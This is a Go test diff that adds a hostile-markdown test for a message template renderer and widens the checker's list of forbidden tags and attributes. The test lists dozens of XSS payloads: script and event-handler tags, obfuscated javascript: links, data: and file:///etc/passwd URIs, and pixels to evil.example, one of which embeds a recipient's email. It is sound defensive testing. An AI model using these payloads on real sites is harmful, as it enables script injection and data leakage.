@@ -139,6 +139,31 @@ Hello {{name}}, [a](javascript:alert(1)) [b]({{page}}) [c](https://example.com/{
 	}
 }
 
+// What a message may not hold, in all the ways of writing it that somebody
+// thought of. Nothing is fetched when it is opened, and no link runs anything.
+func TestTemplate_HostileMarkdown(t *testing.T) {
+	for _, markdown := range []string{
+		"<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "a <img src=x onerror=alert(1)> b", "<svg onload=alert(1)>",
+		"<a href=\"javascript:alert(1)\" onclick=x>y</a>", "<iframe src=https://evil.example></iframe>", "<style>*{background:url(//evil.example)}</style>",
+		"<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example>", "<form action=//evil.example><input>",
+		"<!-- --><script>x</script>", "<div style=\"background:url(//evil.example/p.gif)\">x</div>",
+		"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#115;cript:alert(1))", "[x](java\tscript:alert(1))", "[x](<java\nscript:alert(1)>)", "[x](\x01javascript:x)",
+		"[x](vbscript:x)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)", "[x](//evil.example)", "[x][y]\n\n[y]: javascript:alert(1)", "<javascript:alert(1)>", "<data:text/html,x>",
+		"![x](https://evil.example/p.gif)", "![{{name}}](https://evil.example/{{email}}.gif)", "![x](data:image/svg+xml,<svg onload=x>)", "![][p]\n\n[p]: https://evil.example/p.gif",
+		"[x](https://example.com/\" onmouseover=\"alert(1))", "[x](https://example.com/ \"t\\\" onmouseover=alert(1)\")", "[x]({{name}})", "[x]({{name}}:alert(1))", "[{{name}}](https://example.com/{{name}})",
+		"`<script>`", "```html\n<script>alert(1)</script>\n```", "    <script>alert(1)</script>", "# <img src=x>", "> <b onclick=x>", "- <script>x</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "{\u200b{ .x }}",
+	} {
+		tpl := mustTemplate(t, "s", markdown, "en")
+		for _, value := range []string{"javascript:alert(1)", "<script>alert(1)</script>", "x\" onerror=\"y"} {
+			c := mustRender(t, tpl, map[string]string{"name": value, "email": value}, campaignFooter(t))
+			wantHarmless(t, markdown+" with "+value, c.HTML)
+			if strings.ContainsAny(c.Text, "\x00\x01\r") {
+				t.Errorf("%q: control characters in the text", markdown)
+			}
+		}
+	}
+}
+
 func wantHarmless(t *testing.T, value, page string) {
 	t.Helper()
 	z := html.NewTokenizer(strings.NewReader(page))
@@ -149,7 +174,7 @@ func wantHarmless(t *testing.T, value, page string) {
 		}
 		token := z.Token()
 		switch token.Data {
-		case "script", "img", "iframe", "object", "form":
+		case "script", "img", "iframe", "object", "embed", "form", "input", "style", "link", "base", "svg", "video", "audio":
 			if kind != html.TextToken {
 				t.Errorf("%q: got a <%s>", value, token.Data)
 			}
@@ -161,7 +186,7 @@ func wantHarmless(t *testing.T, value, page string) {
 			if a.Key == "href" && !safeScheme.MatchString(a.Val) && !strings.HasPrefix(a.Val, "#") {
 				t.Errorf("%q: link to %s", value, a.Val)
 			}
-			if a.Key == "src" || a.Key == "background" {
+			if a.Key == "src" || a.Key == "srcset" || a.Key == "background" || a.Key == "action" || a.Key == "http-equiv" || a.Key == "style" && strings.Contains(a.Val, "url") {
 				t.Errorf("%q: something is fetched: %s", value, a.Val)
 			}
 		}
